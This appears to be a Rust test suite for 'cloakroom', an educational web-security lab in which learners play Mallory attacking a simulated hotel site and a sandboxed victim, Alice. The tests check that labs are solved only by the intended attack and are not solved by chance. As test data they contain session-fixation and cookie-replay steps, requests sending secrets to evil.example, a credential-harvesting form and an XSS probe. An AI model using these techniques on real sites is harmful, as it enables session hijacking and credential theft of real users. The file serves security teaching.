//! Labs: solved by what should solve them, by nothing else and by nobody's chance; and nothing of Alice's is in the
//! learner's hands.

mod walker;

use std::sync::Arc;

use cloakroom::{
    app::Content,
    course::{Course, Lab, LabGoal},
    lab::{AliceEnd, EVIL_PATH, LabWorld, NearMiss, Verdict},
    password::Hasher,
    sandbox::{Caller, Sandbox, Services},
    store::Stores,
};
use cloakroom_engine::script::{Block, Fence, Place, SitePage};
use http::StatusCode;

use crate::harness::{Answer, TestApp, embedded};

fn course() -> (Services, Arc<Course>) {
    let Content { library, views, .. } = embedded();
    (Services { stores: Stores::in_memory().unwrap(), hasher: Hasher::default(), views }, library.current())
}

fn world(lab: &Lab, services: &Services) -> LabWorld {
    LabWorld::new(lab, Arc::new(Sandbox::closed(services, lab.switches.clone()).unwrap()))
}

async fn does(world: &LabWorld, lab: &Lab, kind: &str, text: &str) {
    let fence = Fence::new(&format!("{kind} as=mallory"), text, 0).unwrap();
    let block = Block::parse(&fence).unwrap().unwrap();
    world.mallory(lab, &Caller::default(), "a test", &block).await;
}

async fn alice(world: &LabWorld, lab: &Lab, name: &str) {
    let (number, _) = lab.routine(name).unwrap();
    world.alice(lab, &Caller::default(), number).await;
}

fn page(html: &str) -> SitePage {
    SitePage { at: Place::Evil, path: EVIL_PATH.to_owned(), html: html.to_owned(), set_cookie: None }
}

#[test]
fn there_are_labs_from_easy_to_hard_and_each_ends_where_more_is_told() {
    let (_, course) = course();
    assert!(course.labs.len() >= 12, "{}", course.labs.len());
    assert!(course.labs.is_sorted_by_key(|lab| lab.front.difficulty), "easy ones first");
    assert_eq!(course.labs.iter().filter(|lab| lab.goal == LabGoal::Defend).count(), 2);
    for lab in &course.labs {
        assert!(lab.front.lesson.is_some() && lab.hints.len() >= 3 && lab.misses.len() >= 2, "{}", lab.slug);
        // The attack is named once it is solved, and not before.
        let title = lab.front.attack.as_ref().and_then(|slug| course.attack(slug)).map(|page| &page.attack.front.title);
        let before = format!("{} {} {}", lab.front.title, lab.front.promise, lab.intro_html);
        assert!(title.is_none_or(|title| !before.contains(title.as_str())), "{}", lab.slug);
    }
}

#[tokio::test]
async fn nothing_of_alices_can_be_named_read_or_stopped() {
    let (services, course) = course();
    let lab = course.lab("planted").unwrap();
    let world = world(lab, &services);
    for name in ["secret", "alice.secret", "alice.password", "alice.coat", "trent.password", "ledger"] {
        does(&world, lab, "http", &format!("GET https://evil.example/?{{{{{name}}}}}")).await;
        let problem = world.state().answer.unwrap().problem.unwrap();
        assert!(problem.contains("nothing is noted"), "{name}: {problem}");
        world.page(lab, page(&format!("<p>{{{{{name}}}}}</p>"))).await;
        assert!(world.state().refused.unwrap().contains("not put up"), "{name}");
    }
    alice(&world, lab, "comes by").await;
    for deed in ["open https://hotel.grand.example/\ncapture x = store guest_id=7", "restart hotel"] {
        does(&world, lab, "act", deed).await;
        let problem = world.state().answer.unwrap().problem.unwrap();
        assert!(problem.contains("not in your hands"), "{deed}: {problem}");
    }
    does(&world, lab, "http", "GET https://hotel.grand.example/login").await;
    let journal = world.sandbox().journal();
    let login = journal.newest_first().next().unwrap().exchange.response.body.clone();
    let drawn = |name: &str| world.sandbox().drawn(name).unwrap();
    assert!(login.contains(&drawn("mallory.password")), "the learner's own stands there");
    assert!(!login.contains(&drawn("alice.password")) && !login.contains(&drawn("trent.password")), "{login}");
    let fence = Fence::new("act as=alice", "open https://hotel.grand.example/", 0).unwrap();
    world.mallory(lab, &Caller::default(), "a test", &Block::parse(&fence).unwrap().unwrap()).await;
    assert!(world.state().refused.unwrap().contains("You are Mallory"));
}

#[tokio::test]
async fn a_page_cannot_name_alices_values_by_a_name_that_is_put_together() {
    let (services, course) = course();
    let lab = course.lab("planted").unwrap();
    let world = world(lab, &services);
    world.sandbox().note("half", "{{sec").await.unwrap();
    world.page(lab, page("<p><a href=\"https://evil.example/?{{half}}ret}}\">x</a></p>")).await;
    alice(&world, lab, "comes by").await;
    let secret = world.sandbox().drawn("secret").unwrap();
    assert!(world.state().heard.iter().all(|heard| !heard.url.contains(&secret)), "{:?}", world.state().heard);
    assert_ne!(world.state().verdict, Verdict::Solved);
}

#[tokio::test]
async fn alice_types_her_password_on_the_hotels_own_pages_only() {
    let (services, course) = course();
    let lab = course.lab("planted").unwrap();
    let world = world(lab, &services);
    let password = world.sandbox().drawn("alice.password").unwrap();
    for form in ["https://evil.example/log", "https://hotel.grand.example/login", "http://hotel.grand.example/login"] {
        let html = format!(
            "<form method=post action=\"{form}\" aria-label=\"log in\"><input name=guest><input name=password></form>"
        );
        world.page(lab, page(&html)).await;
        alice(&world, lab, "comes by").await;
        let typed = world.sandbox().journal();
        let typed = typed.newest_first().find(|noted| noted.exchange.request.body.contains(&password));
        assert!(typed.is_none(), "{form}");
    }
}

#[tokio::test]
async fn what_was_right_and_does_not_count_is_said() {
    let (services, course) = course();
    let lab = course.lab("after-logout").unwrap();
    let world = world(lab, &services);
    let log_in = "open https://hotel.grand.example/login\nsubmit \"log in\" guest=mallory password={{mallory.password}}\nopen https://hotel.grand.example/account";
    does(&world, lab, "act", log_in).await;
    assert_eq!(world.state().verdict, Verdict::NotCounted(NearMiss::OwnAccount));
    alice(&world, lab, "logs in").await;
    assert_eq!(world.state().verdict, Verdict::NotYet);
    alice(&world, lab, "types the name").await;
    assert_eq!(world.state().verdict, Verdict::NotCounted(NearMiss::HerSession));
    let cookie = world.state().heard[0].cookie.clone().unwrap();
    let replay = format!("GET https://hotel.grand.example/account\nCookie: {cookie}");
    does(&world, lab, "http", &replay).await;
    assert_eq!(world.state().verdict, Verdict::NotCounted(NearMiss::TooEarly));
    alice(&world, lab, "logs out").await;
    assert!(world.state().solved.is_none() && world.state().in_time());
    does(&world, lab, "http", &replay).await;
    let solved = world.state().solved.unwrap();
    assert_eq!((world.state().verdict, solved.act), (Verdict::Solved, 6));
    let (run, left_out) = cloakroom::lab::picture(&world.state(), "It is done").unwrap();
    let titles: Vec<&str> = run.run.steps.iter().map(|step| step.title.as_str()).collect();
    assert_eq!(titles, ["Alice logs in", "Alice types the hotel’s name, without https", "Alice logs out", "a test"]);
    assert_eq!(left_out, 2);
}

#[tokio::test]
async fn where_alice_is_locked_out_nothing_counts() {
    let (services, course) = course();
    let lab = course.lab("without-alice").unwrap();
    let world = world(lab, &services);
    let claim = "open https://hotel.grand.example/forgot\nsubmit \"forgot\" guest=alice\nopen https://hotel.grand.example/account";
    does(&world, lab, "act", claim).await;
    assert_eq!(world.state().verdict, Verdict::NotCounted(NearMiss::OnlyRead));
    let lock = "submit \"pass on\" coat=1 to=mallory\nopen https://hotel.grand.example/password\nsubmit \"change password\" password=\"seven wet umbrellas\"";
    does(&world, lab, "act", lock).await;
    assert_eq!(world.state().verdict, Verdict::Broken { reached: false });
    let look = "open https://hotel.grand.example/login\nsubmit \"log in\" guest=mallory password={{mallory.password}}\nopen https://hotel.grand.example/account";
    does(&world, lab, "act", look).await;
    assert_eq!((world.state().verdict, world.state().solved), (Verdict::Broken { reached: true }, None));
}

#[tokio::test]
async fn a_page_that_cannot_be_shown_and_one_that_is_not_there_are_said() {
    let (services, course) = course();
    let lab = course.lab("coat-form").unwrap();
    let world = world(lab, &services);
    alice(&world, lab, "comes by").await;
    assert_eq!(world.state().alice.unwrap().1, AliceEnd::Done, "nothing stands there yet");
    world.page(lab, page("<script>alert(1)</script>")).await;
    alice(&world, lab, "comes by").await;
    let Some((_, AliceEnd::BadPage(says))) = world.state().alice else { panic!("{:?}", world.state().alice) };
    assert!(says.contains("alert(1)"), "{says}");
}

#[tokio::test]
async fn a_random_walker_of_500_acts_solves_none() {
    let (services, course) = course();
    for lab in &course.labs {
        let world = world(lab, &services);
        let walked = walker::walk(lab, &course, &services, &world, 500).await;
        assert!(world.state().solved.is_none(), "{} by chance: {walked:?}", lab.slug);
        let moved = if lab.goal == LabGoal::Defend { 50 } else { 400 };
        assert!(world.state().count() >= moved, "{}: it walks: {}", lab.slug, world.state().count());
    }
}

async fn act(app: &TestApp, slug: &str, fields: &[(&str, &str)]) -> Answer {
    let body = url::form_urlencoded::Serializer::new(String::new()).extend_pairs(fields).finish();
    let answer = app.post(&format!("/labs/{slug}"), &body).await;
    assert_eq!(answer.status, StatusCode::SEE_OTHER, "{}", answer.body);
    answer
}

async fn solve_planted(app: &TestApp) {
    act(app, "planted", &[("do", "send"), ("text", "GET https://hotel.grand.example/\ncapture mine = cookie.session")])
        .await;
    let html = "<a href=\"https://hotel.grand.example/login?id={{mine}}\">Your coat</a>";
    act(app, "planted", &[("do", "page"), ("use", "page"), ("html", html)]).await;
    act(app, "planted", &[("do", "alice"), ("routine", "comes by")]).await;
    act(app, "planted", &[("do", "open"), ("address", "https://hotel.grand.example/account")]).await;
}

#[tokio::test]
async fn a_lab_is_solved_by_its_page_twice_after_start_again_and_after_a_restart() {
    let app = TestApp::start();
    let first = app.get("/labs/planted").await;
    assert!(first.status == StatusCode::OK && first.body.contains("Not yet."), "{}", first.body);
    assert!(first.set_cookies().is_empty(), "reading creates nothing");
    solve_planted(&app).await;
    let end = app.get("/labs/planted").await.body;
    assert!(end.contains("Solved. Alice’s room code is ") && end.contains("Planted session ID"), "{end}");
    assert!(app.get("/labs").await.body.contains("<b>1 of "), "it is written down");
    act(&app, "planted", &[("do", "again")]).await;
    let again = app.get("/labs/planted").await.body;
    assert!(again.contains("Not yet.") && !again.contains("Planted session ID"), "{again}");
    solve_planted(&app).await;
    assert!(app.get("/labs/planted").await.body.contains("Solved. "));
    let later = app.restarted();
    let lost = later.get("/labs/planted").await.body;
    assert!(lost.contains("The world that you had has ended"), "{lost}");
    solve_planted(&later).await;
    assert!(later.get("/labs/planted").await.body.contains("Solved. "));
    let file = later.get("/api/progress/file").await.json();
    assert!(file["labs"]["planted"]["solved"].is_string(), "{file}");
}

#[tokio::test]
async fn two_learners_have_two_worlds_and_two_labs_do_not_meet() {
    let ada = TestApp::start();
    act(&ada, "planted", &[("do", "open"), ("address", "https://hotel.grand.example/")]).await;
    let ben = ada.another();
    act(&ben, "planted", &[("do", "open"), ("address", "https://hotel.grand.example/book")]).await;
    act(&ada, "cafe", &[("do", "open"), ("address", "https://hotel.grand.example/forgot")]).await;
    let shows = |page: String, path: &str| {
        page.contains(&format!("value=\"https:&#x2f;&#x2f;hotel.grand.example&#x2f;{path}\""))
    };
    assert!(shows(ada.get("/labs/planted").await.body, ""));
    assert!(shows(ben.get("/labs/planted").await.body, "book"));
    assert!(shows(ada.get("/labs/cafe").await.body, "forgot"));
    // A learner has a few worlds; the fourth takes the place of the first.
    for slug in ["guest-book", "counting"] {
        act(&ada, slug, &[("do", "open"), ("address", "https://hotel.grand.example/")]).await;
    }
    assert!(ada.get("/labs/planted").await.body.contains("Not yet."));
    assert!(shows(ada.get("/labs/cafe").await.body, "forgot"));
}

#[tokio::test]
async fn hints_open_one_after_the_other_and_cost_nothing() {
    let app = TestApp::start();
    let hints = |page: &str| page.matches("class=\"hint\"").count();
    for read in 0..5 {
        assert_eq!(hints(&app.get("/labs/planted").await.body), read.min(3));
        act(&app, "planted", &[("do", "hint")]).await;
    }
    solve_planted(&app).await;
    assert!(app.get("/labs/planted").await.body.contains("with 3 hints"));
    let file = app.get("/api/progress/file").await.json();
    assert_eq!(file["labs"]["planted"].as_object().unwrap().len(), 4, "{file}");
}

#[tokio::test]
async fn what_cannot_be_done_is_said_and_nothing_fails() {
    let app = TestApp::start();
    for (fields, says) in [
        (vec![("do", "open"), ("address", "")], "Type an address first"),
        (vec![("do", "open"), ("address", "hotel")], "not an address"),
        (vec![("do", "click"), ("n", "999999999999999999999")], "no longer on this page"),
        (vec![("do", "submit"), ("n", "-1")], "no longer on this page"),
        (vec![("do", "wait"), ("for", "-1m")], "A time is a number and a unit"),
        (vec![("do", "send"), ("text", "")], "Write a request first"),
        (vec![("do", "send"), ("text", "GET https://hotel.grand.example/ {{secret}}")], ""),
        (vec![("do", "send"), ("text", "dance")], "is not a deed"),
        (vec![("do", "page"), ("use", "page"), ("html", "{{nothing}}")], "not put up"),
        (vec![("do", "page"), ("use", "page"), ("html", "x"), ("set_cookie", "a=1\r\nb: 2")], "A header is one line"),
        (vec![("do", "alice"), ("routine", "gives her password away")], "Alice does no such thing here"),
    ] {
        act(&app, "planted", &fields).await;
        let page = app
            .get(&format!(
                "/labs/planted?use={}",
                fields.get(1).map_or("", |f| if f.0 == "use" { f.1 } else { "request" })
            ))
            .await;
        assert!(page.status == StatusCode::OK && page.body.contains(says), "{fields:?}: {}", page.body);
    }
    let long = "x".repeat(20_000);
    for (name, doing) in [("html", "page"), ("text", "send")] {
        act(&app, "planted", &[("do", doing), ("use", "page"), (name, &long)]).await;
        assert!(app.get("/labs/planted?use=page").await.body.contains("at most"), "{doing}");
    }
    assert_eq!(app.post("/labs/planted", "do=dance").await.status, StatusCode::UNPROCESSABLE_ENTITY);
    assert_eq!(app.post("/labs/planted", "do=switches&set=http_only").await.status, StatusCode::UNPROCESSABLE_ENTITY);
    assert_eq!(app.post("/labs/nothing", "do=open").await.status, StatusCode::NOT_FOUND);
    assert_eq!(app.get("/labs/nothing").await.status, StatusCode::NOT_FOUND);
    act(&app, "three-switches", &[("do", "switches"), ("set", "http_only=maybe")]).await;
    assert!(app.get("/labs/three-switches").await.body.contains("cannot be"));
    let four = [("do", "switches"), ("set", "http_only"), ("set", "secure"), ("set", "csp"), ("set", "signed")];
    act(&app, "three-switches", &four).await;
    assert!(app.get("/labs/three-switches").await.body.contains("may move 3"));
}

#[tokio::test]
async fn the_learners_own_browser_is_mallorys_and_sees_the_page_that_is_put_up() {
    let app = TestApp::start();
    act(&app, "planted", &[("do", "page"), ("use", "page"), ("html", "<p>of mine</p>")]).await;
    let page = app.get("/labs/planted").await.body;
    let host = page.split("href=\"http:&#x2f;&#x2f;hotel.").nth(1).unwrap().split(['&', '"', '/']).next().unwrap();
    let host = format!("hotel.{host}");
    let evil = host.trim_start_matches("hotel.").replace("cloakroom.localhost", "evil.localhost");
    let get =
        |host: &str, path: &str| http::Request::get(path).header("host", host).body(axum::body::Body::empty()).unwrap();
    let shown = app.send(get(&evil, EVIL_PATH)).await;
    assert!(shown.body.contains("of mine"), "{}", shown.body);
    assert!(!app.send(get(&evil, "/prize-draw")).await.body.contains("drawing your number"), "no page of the course");
    let login = app.send(get(&host, "/login")).await;
    assert!(
        login.body.contains("<code>mallory</code>") && !login.body.contains("<code>alice</code>"),
        "{}",
        login.body
    );
    let page = app.get("/labs/planted").await.body;
    assert!(page.contains("Not yet."), "{page}");
}
